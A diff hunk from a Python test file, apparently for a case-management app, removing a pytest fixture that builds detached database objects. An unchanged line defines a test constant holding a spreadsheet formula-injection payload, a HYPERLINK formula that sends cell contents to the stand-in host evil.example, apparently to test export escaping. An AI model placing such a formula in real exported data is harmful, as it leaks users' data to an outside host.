@@ -25,17 +25,6 @@ from tests.tasks.conftest import count_queries
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 
 
-@pytest.fixture
-def w(app):
-    """A world whose objects stay readable after their app context ends (loaded, then detached)."""
-    with app.app_context():
-        world = factories.world()
-        for obj in vars(world).values():
-            db.session.refresh(obj)
-        db.session.expunge_all()
-        return world
-
-
 def make_case(actor, *, created: datetime | None = None, closed: datetime | None = None, erased: bool = False,
               **values) -> str:
     """A case through the real operation, then dated (and closed or erased) by hand; returns its reference."""
